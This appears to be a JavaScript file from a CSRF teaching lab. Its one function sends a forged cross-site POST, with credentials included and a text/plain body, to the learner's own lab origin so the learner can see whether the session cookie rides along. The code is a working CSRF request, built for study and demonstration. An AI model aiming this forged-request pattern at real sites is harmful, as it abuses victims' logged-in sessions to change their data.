/**
 * The lab page's one action: a forged request to the learner's main
 * origin, sent as a classic cross-site form would send it. The reply is
 * opaque to this page (mode: 'no-cors'); the ledger tells what arrived.
 */

const main = document.getElementById('main');
const button = document.getElementById('attack');
const result = document.getElementById('attack-result');

/** Sends the forged update and says that it went. */
function attack() {
  const url = main.dataset.target + '/update-session-data?probe=' + encodeURIComponent(main.dataset.probe);
  result.textContent = 'Sending…';
  fetch(url, {
    method: 'POST',
    mode: 'no-cors',
    credentials: 'include',
    headers: { 'Content-Type': 'text/plain' },
    body: '{"attacker": "was here"}'
  }).then(function () {
    result.textContent = 'Sent. This page may not read the reply (an opaque response); go back to the learner\'s page to see from the ledger whether the cookie rode along and what the server answered.';
    result.dataset.sent = 'true';
  }, function (err) {
    result.textContent = 'The browser did not send it: ' + err.message;
    result.dataset.sent = 'failed';
  });
}

if (button) button.addEventListener('click', attack);
